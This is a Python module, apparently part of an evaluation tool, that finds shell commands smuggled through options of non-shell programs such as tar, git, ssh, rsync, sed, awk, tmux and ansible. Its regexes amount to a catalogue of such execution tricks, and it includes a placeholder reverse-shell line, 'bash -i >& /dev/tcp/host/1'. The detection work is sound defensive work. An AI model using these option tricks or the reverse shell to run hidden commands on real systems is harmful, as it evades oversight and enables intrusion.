"""Commands that are carried in an option of a program that is no shell."""

import re
from collections.abc import Iterator, Sequence

from oilstone_eval.danger.names import names

_OPTIONS = re.compile(
    r"(?:--checkpoint-action=exec|--to-command|--use-compress-program|--rsh|--rsync-path"
    r"|core\.(?:pager|editor|sshCommand|fsmonitor)|(?:-o\s*)?(?:ProxyCommand|LocalCommand)"
    r"|--pager|--unzip-command)[= ](.*)|alias\.\w+=!(.*)",
    re.DOTALL,
)
_CARRIERS = names("tar git ssh scp sftp rsync zip man less")
_FLEETS = names("pssh parallel-ssh pdsh dsh clush")
_KEYS = names("Enter C-m C-j ENTER KPEnter")


def carried(name: str, args: Sequence[str], stdin: str | None) -> Iterator[str]:
    """Yield the shell text that options of this command make it run."""
    if name in _CARRIERS:
        for word in args:
            if found := _OPTIONS.match(word):
                yield found[1] or found[2] or ""
    elif name in _FLEETS or name == "salt":
        yield _last(args)
    elif name in ("ansible", "tmux", "screen"):
        yield from _typed(name, args)
    elif name == "sed":
        yield from (found[1] or found[3] for word in args if (found := _SED.match(word)))
    elif name in ("awk", "gawk", "mawk", "nawk"):
        yield from _awk(" ".join(args))
    elif name in ("ed", "ex", "vi", "vim") and stdin:
        yield from re.findall(r"^\s*:?!(.+)", stdin, re.MULTILINE)
    elif name in ("mapfile", "readarray") and "-C" in args[:-1]:
        yield args[list(args).index("-C") + 1]


_SED = re.compile(r"^[\d,$]*e\s+(.+)|^s(\W).*\2(.*)\2\w*e\w*$", re.DOTALL)


def _last(args: Sequence[str]) -> str:
    return args[-1] if args else ""


def _typed(name: str, args: Sequence[str]) -> Iterator[str]:
    """Yield what is sent to other machines by ansible, or typed into a terminal."""
    words = list(args)
    if name == "ansible":
        task = next((words[i + 1] for i, w in enumerate(words[:-1]) if w in ("-a", "--args")), "")
        absent = re.search(r"\bstate=absent\b", task)
        path = re.search(r"\b(?:path|dest|name)=(\S+)", task)
        yield f"rm -rf {path[1]}" if absent and path else task
    for verb in ("send-keys", "send", "stuff"):
        if verb in words and name != "ansible":
            typed = words[words.index(verb) + 1 :]
            if typed[:1] == ["-t"]:
                typed = typed[2:]
            yield " ".join(word for word in typed if word not in _KEYS).replace("\\n", "\n")


def _awk(program: str) -> Iterator[str]:
    """Yield the texts that an awk program hands to a shell."""
    text = r'"((?:[^"\\]|\\.)*)"'
    yield from re.findall(rf"(?:system\s*\(|[^|]\|&?)\s*{text}", program)
    yield from re.findall(rf"{text}\s*\|&?\s*getline", program)
    for name in re.findall(r"system\s*\(\s*([A-Za-z_]\w*)\s*\)|\b(\w+)\s*\|\s*getline", program):
        yield from re.findall(rf"\b{''.join(name)}\s*=\s*{text}", program)
    if "/inet/" in program and re.search(r"\w\s*\|&?\s*getline.*\|&?\s*getline", program):
        yield "bash -i >& /dev/tcp/host/1"
